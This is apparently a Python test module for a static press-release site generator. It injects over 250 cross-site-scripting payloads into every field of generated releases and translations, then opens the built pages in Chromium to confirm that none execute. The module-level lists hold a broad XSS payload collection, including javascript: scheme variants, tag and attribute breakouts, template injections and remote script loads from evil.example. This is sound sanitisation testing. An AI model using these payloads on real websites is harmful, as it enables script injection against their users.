"""Pages opened in a browser (G9): hostile texts in every place that reaches a page, built by the program itself; none may come alive."""
import json
import os
import random
import re

import chromium
from common import NOW, late, must, place, put, run, skip, start, take, tell

SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#x73;cript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "javascript&colon;alert(1)",
    "&#1;javascript:alert(1)", "&#106;avascript:alert(1)", "&#X6A;avascript:alert(1)", "%6Aavascript:alert(1)", "javascript%3Aalert(1)", "javascript://x/%0Aalert(1)", "\u00a0javascript:alert(1)",
    "\u2028javascript:alert(1)", "vbscript:msgbox(1)", "livescript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "blob:x", "filesystem:x", "file:///etc/passwd", "view-source:x", "about:blank", "jar:x!/", "feed:javascript:alert(1)", "//evil.example",
    "https:evil.example", "\\\\evil.example", "/\\evil.example", "https://example.org@evil.example", "https://example.org\"onmouseover=alert(1)//", "https://example.org/' onfocus='alert(1)",
    "https://example.org/\u202egro", "x\"><script>alert(1)</script>", "x'><img src=x onerror=alert(1)>", "mailto:a@b.example?subject=\"><script>alert(1)</script>", "tel:+1\" onclick=\"alert(1)",
]
TAGS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script\t>alert(1)</script >", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<IMG SRC=`x` ONERROR=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1)>",
    "<svg><set attributeName=href to=javascript:alert(1)>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<style>*{background:url(//evil.example)}</style>", "<style>@import'//evil.example';</style>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x", "<isindex action=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a onmouseover=alert(1)>x</a>",
    "<div style=\"background:url(javascript:alert(1))\">", "<x onclick=alert(1)>x", "<table background=javascript:alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>",
    "<portal src=javascript:alert(1)>", "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "</p></main><script>alert(1)</script>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script>alert(1)\\</script>", "\u003cscript\u003ealert(1)", "＜script＞alert(1)＜/script＞", "<script>alert`1`</script>",
]
QUOTES = [
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)" x="', "` onerror=alert(1) `", '"><script>alert(1)</script>', "'><script>alert(1)</script>", '"/><svg onload=alert(1)>',
    '\\" onclick=\\"alert(1)', '&quot; onclick=&quot;alert(1)', '&#34; onclick=&#34;alert(1)', "\"}</script><script>alert(1)</script>", "\\u0022}</script>", "]]><script>alert(1)</script>", "*/alert(1)/*", "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}", "{% raw %}<script>alert(1)</script>{% endraw %}", "{{ '<script>alert(1)</script>'|safe }}", "# h {onclick=alert(1)}", "{onclick=alert(1)}", "```{=html}<script>alert(1)</script>```",
    "[x]{onclick=alert(1)}", "{: onclick=alert(1)}", "=alert(1)", "+alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "\u2028alert(1)\u2029", "\u202e<script>alert(1)", "\u0000<script>alert(1)", "a\u0000lert",
]


def payloads():
    """More than two hundred and fifty hostile texts."""
    links = [way.format(one) for one in SCHEMES for way in ("[x]({})", "<{}>", "![x]({})", "{}")]
    titles = [f"[x](https://example.org {quote}{one}{quote})" for one in QUOTES[:8] for quote in ('"', "'")]
    return list(dict.fromkeys([*TAGS, *QUOTES, *links, *titles]))


CLEAN = {
    "title": "The title of it", "summary": "The summary of it.", "place": "Brussels", "issuer": "The office", "role": "The desk", "paragraph": "A paragraph of it.", "heading": "A heading of it", "item": "An item of it.", "cell": "A cell of it",
    "quote": "A quotation of it.", "link": "[A link of it](https://example.org/a).", "alt": "![A picture of it](dot.png)",
}
# Where a text stands: in the front matter and the body of the English (by that name), or in the translation of one of them.
PLACES = [*CLEAN, "link text", "link target", "link title", "image target", "image title", "fence", "code", "email", "url"]
DOT = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000" "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082")


def release(texts, extra=""):
    line = lambda name: f"{name} = {toml(texts[name])}\n"
    return (
        "+++\n" + line("title") + line("summary") + "date = 2026-01-01\n" + line("place") + line("issuer") + extra
        + f"\n[[contacts]]\nrole = {toml(texts['role'])}\nemail = {toml(texts.get('email', 'a@example.org'))}\n+++\n\n"
        + f"{texts['paragraph']}\n\n## {texts['heading']}\n\n- {texts['item']}\n\n| A | B |\n|---|---|\n| {texts['cell'].replace('|', chr(92) + '|')} | c |\n\n> {texts['quote']}\n\n{texts['link']}\n\n{texts['alt']}\n"
    )


def toml(text):
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")


def english(at, payload):
    """A release with the payload in one place of the English; line ends would make it another place."""
    texts = dict(CLEAN)
    if at in texts:
        texts[at] = payload
    elif at == "link text":
        texts["link"] = f"[{payload}](https://example.org/a)."
    elif at == "link target":
        texts["link"] = f"[x]({payload})"
    elif at == "link title":
        texts["link"] = f"[x](https://example.org/a {toml(payload)})"
    elif at == "image target":
        texts["alt"] = f"![x]({payload})"
    elif at == "image title":
        texts["alt"] = f"![x](dot.png {toml(payload)})"
    elif at == "fence":
        texts["paragraph"] = f"```{payload}\ncode\n```"
    elif at == "code":
        texts["paragraph"] = f"A ``{payload} `` of it."
    elif at == "email":
        texts["email"] = payload
    elif at == "url":
        return release(texts, f"url = {toml(payload)}\n")
    return release(texts)


def fluent(text):
    """A text as a value of Fluent."""
    text = text.replace("\0", "\u0001").replace("{", "\1").replace("}", "\2").replace("\1", '{ "{" }').replace("\2", '{ "}" }')
    return '{ "' + text[0] + '" }' + text[1:] if text[:1] in ("[", "*", ".", " ", "#") else text


def newsroom(all_):
    """One newsroom: a release for every payload in every place of the English, and one for every payload in every translation."""
    folder = place("pages")
    put(folder, "pressroom.toml", 'base-url = "https://press.example"\n\n[policy]\nmissing = "fallback"\n')
    put(folder, "releases/e/dot.png", DOT)
    put(folder, "releases/t/dot.png", DOT)
    wanted = {}
    for n, payload in enumerate(all_):
        for at in PLACES:
            name = f"e/{n}-{at.replace(' ', '-')}"
            put(folder, f"releases/{name}.md", english(at, payload))
            wanted[name] = None
        for at in CLEAN:
            name = f"t/{n}-{at}"
            put(folder, f"releases/{name}.md", release(CLEAN).replace("date =", 'locales = ["en", "fr"]\ndate =', 1))
            wanted[name] = (at, payload)
    run(folder, "extract", timeout=1200)
    quote = lambda text: text.replace("\n", " ")
    for name, change in wanted.items():
        if change:
            at, payload = change
            source = take(folder, f"locales/en/releases/{name}.ftl").decode()
            lines = []
            for one, text in re.findall(r"^([a-z][\w-]*) = (.*)$", source, re.M):
                # The translation says what the English says, but for the one place.
                plain = CLEAN[at].removeprefix("![").split("](")[0] if at == "alt" else CLEAN[at]
                value = fluent(payload) if text == plain else text
                lines.append(f"# en: {quote(text)}\n{one} = {value}\n")
            put(folder, f"locales/fr/releases/{name}.ftl", "\n".join(lines))
    return folder


# What is alive in a page: handlers, scripts, addresses of other schemes, and elements that no text may bring.
LOOK = """(() => {
  const found = [];
  const good = ['http:', 'https:', 'mailto:', 'tel:', 'file:'];
  for (const element of document.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (['iframe', 'object', 'embed', 'applet', 'base', 'form', 'input', 'svg', 'math', 'style', 'template', 'portal', 'button', 'video', 'audio', 'plaintext', 'marquee'].includes(tag)) found.push('element ' + tag);
    if (tag === 'script' && element.type !== 'application/ld+json') found.push('script');
    if (tag === 'script') { try { JSON.parse(element.textContent); } catch (error) { found.push('JSON-LD ' + error); } }
    if (tag === 'meta' && element.httpEquiv) found.push('meta ' + element.httpEquiv);
    for (const {name, value} of element.attributes) {
      if (name.startsWith('on')) found.push(name + ' on ' + tag);
      if (name === 'style' || name === 'srcdoc') found.push(name + ' on ' + tag);
      if (['href', 'src', 'action', 'formaction', 'data', 'cite', 'poster', 'background', 'ping', 'xlink:href'].includes(name)) {
        let scheme = '';
        try { scheme = new URL(value, document.baseURI).protocol; } catch (error) { scheme = 'file:'; }
        if (!good.includes(scheme)) found.push(scheme + ' in ' + name);
      }
    }
    for (const kind of ['mouseover', 'focus', 'error', 'load', 'toggle']) element.dispatchEvent(new Event(kind));
  }
  return found;
})()"""


def pages(short):
    """Builds the hostile newsroom, and opens every page that was published."""
    if not chromium.find():
        return skip("G9", "hostile texts opened in Chromium", "there is no Chromium here; install it, or name it with CHROMIUM=PATH")
    all_ = payloads()
    assert len(all_) >= 250, len(all_)
    chosen = all_[::30] if short else all_
    folder = newsroom(chosen)
    built = run(folder, "build", *NOW, timeout=1200)
    out, worst = os.path.join(folder, "public"), []
    if built.returncode not in (0, 2) or not os.path.isdir(out):
        worst.append(f"build ended with {built.returncode}: {built.stderr.decode()[:300]}")
    strings(folder, chosen, worst)
    files = sorted(os.path.join(at, name) for at, _, names in os.walk(out) for name in names if name.endswith(".html"))
    # Only the pages in which the hostile text stands: its own release, in its own language, and the lists.
    files = [file for file in files if "/fr/e/" not in file and "/en/t/" not in file]
    dialogs = 0
    browser = chromium.Browser()
    opened = 0
    random.Random(9).shuffle(files)
    try:
        for file in files:
            if late():
                break
            opened += 1
            events = list(browser.open("file://" + file))
            found = browser.run(LOOK)
            events += browser.events
            dialogs += sum(event["method"] == "Page.javascriptDialogOpening" for event in events)
            asked = [event["params"]["request"]["url"] for event in events if event["method"] == "Network.requestWillBeSent"]
            # An editor may show a picture from elsewhere; a translator may not.
            own = ("file:", "about:") if "/t/" in file or "/strings-" in file else ("file:", "about:", "http:", "https:", "mailto:", "tel:")
            found += [f"asks for {address[:60]}" for address in asked if not address.startswith(own)]
            if found or any(event["method"] == "Page.javascriptDialogOpening" for event in events):
                worst.append(f"{os.path.relpath(file, out)}: {found[:4]}")
    finally:
        browser.close()
    refused = len(chosen) * (len(PLACES) + len(CLEAN)) - sum("/e/" in file or "/t/" in file for file in files)
    tell("G9", f"{len(chosen)} hostile texts in {len(PLACES)} places of the English and {len(CLEAN)} of a translation, and in the strings of pages: {opened} of {len(files)} pages opened in Chromium, {refused} withheld", f"{dialogs} dialogs, {len(worst)} pages with handlers, scripts or other schemes",
         not worst and not dialogs and opened > len(chosen), worst)


def strings(folder, chosen, worst):
    """The strings of the pages themselves, as hostile as a translator could make them; their pages are built beside the others."""
    base = place("strings")
    must(start(["init", base]))
    site = take(base, "locales/fr/site.ftl").decode()
    ids = [one for one in re.findall(r"^([a-z][\w-]*) = [^{\n]+$", site, re.M)]
    for n in range(0, len(chosen), len(ids)):
        text = site
        for one, payload in zip(ids, chosen[n : n + len(ids)]):
            text = re.sub(rf"^{one} = .*$", lambda _: f"{one} = {fluent(payload)}", text, flags=re.M)
        put(base, "locales/fr/site.ftl", text)
        target = os.path.join(folder, "public", f"strings-{n}")
        done = run(base, "build", "--out", target, *NOW)
        if done.returncode not in (0, 2):
            worst.append(f"strings {n}: build ended with {done.returncode}")
